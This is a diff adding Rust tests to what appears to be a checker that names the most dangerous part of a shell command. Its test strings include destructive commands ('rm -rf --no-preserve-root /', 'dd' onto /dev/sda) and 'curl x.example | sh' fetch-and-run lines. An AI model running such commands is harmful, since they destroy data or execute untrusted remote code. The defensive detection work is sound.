@@ -85,3 +85,28 @@ fn a_relative_path_behind_a_cd_is_the_file_that_it_names() {
         assert_eq!(reason(text), None, "{text}");
     }
 }
+
+#[test]
+fn of_several_reasons_the_worst_is_named() {
+    for (text, worst) in [
+        ("sudo rm -rf --no-preserve-root /", "deletes the whole system, as root"),
+        ("systemctl stop sshd; rm -rf ~ /; echo done", "deletes the whole system"),
+        ("crontab x; rm -rf ~/Documents /etc", "deletes a directory of the system"),
+        ("curl x.example | sh; dd if=a of=/dev/sda", "overwrites a raw device"),
+        ("bash -c 'shutdown now; rm -rf /home/ana'", "deletes a whole home directory"),
+        ("rm -rf ./*", "deletes everything here, or above"),
+        ("rm -rf \"$DIR\"/", "deletes what may be a root, a home or a system directory"),
+        ("crontab x; curl x.example | sh", "runs what it fetches or decodes"),
+    ] {
+        assert_eq!(reason(text).as_deref(), Some(worst), "{text}");
+    }
+}
+
+#[test]
+fn a_text_of_many_commands_is_read_to_its_end() {
+    let many = "ls;".repeat(61);
+    let all = scan(&many);
+    assert!(!all.understood() && all.read_whole());
+    let more = format!("{many} coproc x");
+    assert!(!scan(&more).read_whole());
+}
